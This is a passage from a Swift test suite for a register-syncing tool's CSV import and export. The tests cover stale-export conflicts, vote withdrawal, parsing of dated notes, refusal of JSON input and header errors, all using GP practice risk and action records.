        let sharing = try r.importCSV("ID,Practice\n\(phones.id),prestatyn\n", type: .risk)
        #expect(sharing.problems.map(\.column) == ["Practice"], "\(sharing)")
        let asItStands = try r.importCSV("ID,Practice\n\(phones.id),Rhyl\n\(lift),\n", type: .risk)
        #expect(asItStands.problems == [] && asItStands.unchanged == 2, "\(asItStands)")
        #expect(try r.importCSV("ID,Practice\n\(phones.id), \n", type: .risk).unchanged == 1)
        #expect(try r.record(lift)?.scope.practice == nil && (try r.record(phones.id)?.scope.practice) == "rhyl")

        // A score set once, written in its halves' columns, is named by them.
        #expect(try r.importCSV("Title,Likelihood,Impact\nGP recruitment,4,4\n", type: .risk).problems == [])
        let risk = try #require(try r.records(.risk).first { $0.string("title") == "GP recruitment" })
        let setOnce = try r.importCSV("ID,Initial Likelihood,Initial Impact\n\(risk.id),5,4\n", type: .risk)
        #expect(setOnce.problems.map(\.column) == ["Initial Likelihood and Initial Impact"], "\(setOnce.problems)")
    }

    /// An export imported after the replica changed (the forty-fourth session's import audit: a
    /// Monday export imported on Friday put back the owner the lead had changed on Wednesday).
    /// A cell left as exported keeps the change, and says so; a cell edited over a field changed
    /// since is refused, naming it; a cell a spreadsheet merely rewrote (a date as 15/12/2026)
    /// is still as exported; a file without the column imports as before.
    @Test func anOldExportLeavesWhatChangedSinceAlone() throws {
        let r = try makeReplica(dir, "stale", practice: "rhyl")
        let risk = try r.create(.risk, edits: [.set("title", s("Locum cover")), .set("owner", s("IG lead")), .set("review_date", s("2026-12-15")),
                                               .set("score", RiskScore(likelihood: 4, consequence: 3)!.jsonValue)])
        let monday = try r.exportCSV(.risk, today: fixedToday)
        #expect(monday.split(separator: "\n").first?.hasSuffix(",conflicts,exported") == true)
        _ = try r.edit(risk, .set("owner", s("Dr Gareth Jones")), .set("score", RiskScore(likelihood: 2, consequence: 3)!.jsonValue))
        let friday = monday.replacingOccurrences(of: ",2026-12-15,", with: ",15/12/2026,").replacingOccurrences(of: "Locum cover", with: "Locum cover (winter)")
        var outcome = try r.importCSV(friday, type: .risk)
        #expect(outcome.problems == [] && outcome.updated == 1, "\(outcome)")
        #expect(outcome.warnings.map(\.description) == ["line 2: \(risk): owner, score kept as changed in this replica since the file was exported (the file's cells are as exported)"])
        var view = try #require(try r.record(risk))
        #expect(view.string("owner") == "Dr Gareth Jones" && RiskScore(view.value("score")!)?.likelihood == 2)
        #expect(view.string("title") == "Locum cover (winter)" && view.string("review_date") == "2026-12-15")

        // The owner edited in the file too: refused, and nothing of the file is written.
        let edited = monday.replacingOccurrences(of: "IG lead", with: "Practice manager").replacingOccurrences(of: "Locum cover", with: "Locum gap")
        outcome = try r.importCSV(edited, type: .risk)
        // (The title, changed by the import above, is such a field too.)
        #expect(Set(outcome.problems.compactMap(\.column)) == ["owner", "title"], "\(outcome.problems)")
        #expect(outcome.problems.contains { $0.message.contains("now \"Dr Gareth Jones\"") }, "\(outcome.problems)")
        view = try #require(try r.record(risk))
        #expect(view.string("owner") == "Dr Gareth Jones" && view.string("title") == "Locum cover (winter)")
        // The same edit typed to what the field now holds is no change at all.
        outcome = try r.importCSV(monday.replacingOccurrences(of: "IG lead", with: "Dr Gareth Jones").replacingOccurrences(of: "Locum cover", with: "Locum cover (winter)"), type: .risk)
        #expect(outcome.problems == [], "\(outcome.problems)")

        // Without the column, a cell overwrites as it always did.
        let header = try #require(monday.split(separator: "\n").first)
        let columns = header.split(separator: ",")
        let withoutColumn = monday.split(separator: "\n").map { line in
            line.hasPrefix("\u{FEFF}id") ? columns.dropLast().joined(separator: ",") : String(line[..<line.lastIndex(of: ",")!])
        }.joined(separator: "\n").replacingOccurrences(of: "Dr Gareth Jones", with: "x")
        outcome = try r.importCSV(withoutColumn, type: .risk)
        #expect(outcome.problems == [] && outcome.warnings == [], "\(outcome)")
        #expect(try r.record(risk)?.string("owner") == "IG lead")
    }

    /// A list's items export in the list's order, so a spreadsheet shows the agenda as it runs
    /// (by id, the order was the ids' random one; import audit).
    /// A votes cell `{"Dr Evans":""}` withdraws Dr Evans's vote, as `decision unvote` does; for
    /// a member with no vote it writes nothing.
    @Test func aVoteWithdrawnInAVotesCellIsWithdrawnAndNoneIsMadeUp() throws {
        let r = try makeReplica(dir, "a", practice: "prestatyn")
        let d = try r.create(.decision, edits: [.set("title", s("Fund it"))])
        try r.vote(d, member: "Dr Evans", "for")
        let csv = "id,votes\n\(d.rawValue),\"{\"\"dr  evans\"\":\"\"\"\",\"\"Nobody\"\":\"\"\"\"}\"\n"
        let outcome = try r.importCSV(csv, type: .decision)
        #expect(outcome.problems == [] && outcome.updated == 1 && outcome.changes == 1, "\(outcome)")
        let view = try #require(try r.record(d))
        #expect(view.mapValues("votes").isEmpty && view.entries(ofMap: "votes").map(\.key) == ["Dr Evans"])
    }

    /// A note added under others with a day-first date is a note of its own (the CLI audit: it
    /// was read into the note above, and that note added again); a held note whose later line
    /// starts with a date, as export writes it, still reads as that one note.
    @Test func aDayFirstNoteAddedUnderOthersIsANoteOfItsOwn() throws {
        let r = try makeReplica(dir, "a", practice: "prestatyn")
        let first = JSONValue.object(["date": s("2026-11-01"), "text": s("Drafted")])
        let held = JSONValue.object(["date": s("2026-11-05"), "text": s("Chased the practice\n05/12/2026 letter sent")])
        let heldISO = JSONValue.object(["date": s("2026-11-06"), "text": s("Board asked\n2026-12-06 answered")])
        let action = try r.create(.action, edits: [.set("title", s("Advertise")), .add("notes", first), .add("notes", held), .add("notes", heldISO)])
        let cell = "2026-11-01 Drafted\n2026-11-05 Chased the practice\n05/12/2026 letter sent\n2026-11-06 Board asked\n2026-12-06 answered\n"
            + "07/12/2026 Advert placed\n"
        let outcome = try r.importCSV("id,notes\n\(action.rawValue),\"\(cell)\"\n", type: .action)
        #expect(outcome.problems == [] && outcome.changes == 1, "\(outcome)")
        let notes = try #require(try r.record(action)).writes["notes"]?.map(\.value) ?? []
        #expect(notes.count == 4 && notes.contains(.object(["date": s("2026-12-07"), "text": s("Advert placed")])), "\(notes)")
    }

    /// The JSON export given to import is said to be JSON, not read as 37 unknown columns.
    @Test func aJSONExportIsRefusedAsNotCSV() throws {
        let r = try populated()
        let outcome = try r.importCSV(try r.exportJSON(today: fixedToday).canonicalText, type: .risk)
        #expect(outcome.problems.map(\.message) == [
            "the file is JSON, and import reads CSV: export the register with `clustersync export --format csv --type risk` (the web app's Export page writes CSV too)",
        ])
        #expect(outcome.created == 0 && outcome.updated == 0)
    }

    @Test func itemsExportInTheirListsOrder() throws {
        let r = try makeReplica(dir, "items", practice: "prestatyn")
        let list = try r.create(.list, edits: [.set("title", s("Agenda")), .set("kind", s("agenda"))])
        let view = try #require(try r.record(list))
        for text in ["Welcome", "Apologies", "Minutes", "Any other business", "Close"] {
            _ = try r.addItem(toList: view, text: text, owner: nil, at: nil)
        }
        let rows = try r.exportCSV(.item, today: fixedToday).split(separator: "\n").dropFirst()
        let texts = ["Welcome", "Apologies", "Minutes", "Any other business", "Close"]
        #expect(rows.map { row in texts.first { row.contains($0) } ?? "" } == texts, "\(rows)")
    }

    /// The same file imported twice adds its new rows twice: allowed (two risks may share a
    /// title), but said, row by row.
    @Test func aNewRowTitledAsARecordHereIsNoted() throws {
        let r = try populated()
        let csv = "id,title\n,Pharmacy closure\n"
        #expect(try r.importCSV(csv, type: .risk).warnings.isEmpty)
        let again = try r.importCSV(csv, type: .risk)
        #expect(again.created == 1 && again.warnings.count == 1, "\(again)")
        #expect(again.warnings.first?.line == 2 && again.warnings.first?.message.contains("a risk titled \"Pharmacy closure\" is already here") == true,
                "\(again.warnings)")
    }

    /// Mistakes a hand-edited file makes are named, and nothing is imported.
    @Test func aColumnNamedTwiceARowTwiceOrAnUnnamedValueIsRefused() throws {
        let r = try populated()
        let risk = try #require(try r.records(.risk).first)
        let before = try r.allChanges()
        let twice = try r.importCSV("id,title,title\n,a,b\n", type: .risk)
        #expect(twice.problems.map(\.description) == ["line 1, column title: column title appears twice (columns 2 and 3); keep one of them"])
        let rows = try r.importCSV("id,title\n\(risk.id),first\n,new\n\(risk.id.rawValue.lowercased()),second\n", type: .risk)
        #expect(rows.problems.map(\.description) == ["line 4, column id: \(risk.id) is on line 2 too; keep one row per record"])
        let unnamed = try r.importCSV("id,title,\n,a,\n,b,oops\n", type: .risk)
        #expect(unnamed.problems.map(\.description) == ["line 3: column 3 has a value but no name in the header row"])
        // Another register's derived column is one nothing reads here: an action tracker's
        // "Deadline" (a contribution's derived column) had its dates silently dropped.
        let deadline = try r.importCSV("Title,Deadline,RAG\nUpdate the website,01/03/2027,Red\n", type: .action)
        #expect(deadline.problems.map(\.column) == ["Deadline"], "\(deadline.problems)")
        #expect(try r.allChanges() == before)
    }
}

/// A CSV text's rows, read by the CSV library the import uses.
struct CSVRows {
    let header: [String]
    let body: [[String]]

    init(_ text: String) throws {
        let reader = try CSVReader(string: text, hasHeaderRow: false)
        header = reader.next() ?? []
        var body: [[String]] = []
        while let row = reader.next() {
            if !row.allSatisfy(\.isEmpty) { body.append(row) }
        }
        self.body = body
    }
}
